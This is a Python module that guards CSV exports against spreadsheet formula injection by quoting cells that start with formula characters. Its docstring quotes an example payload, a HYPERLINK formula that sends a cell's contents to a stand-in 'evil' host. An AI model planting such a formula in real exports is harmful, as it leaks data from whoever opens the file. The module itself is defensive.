"""CSV cells that a spreadsheet program will not run as formulas (CSV injection, OWASP).

A cell starting with = + - @ (or a tab or carriage return, which some programs skip before the formula) is
read by Excel, WPS and LibreOffice as a formula: `=HYPERLINK("http://evil/?"&A1,"点击")` in a published
title would run on the computer of whoever opens the export. OWASP's rule: prefix such a cell with a single
quote, which the program shows as text. Every CSV the project writes goes through `writer`.
"""

import csv

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value) -> str:
    """The cell as text, with a leading ' when it would otherwise start a formula."""
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


class _SafeWriter:
    def __init__(self, writer):
        self._writer = writer

    def writerow(self, row):
        return self._writer.writerow([safe_cell(v) for v in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def writer(stream, **kwargs) -> _SafeWriter:
    """csv.writer whose cells are escaped by safe_cell."""
    return _SafeWriter(csv.writer(stream, **kwargs))
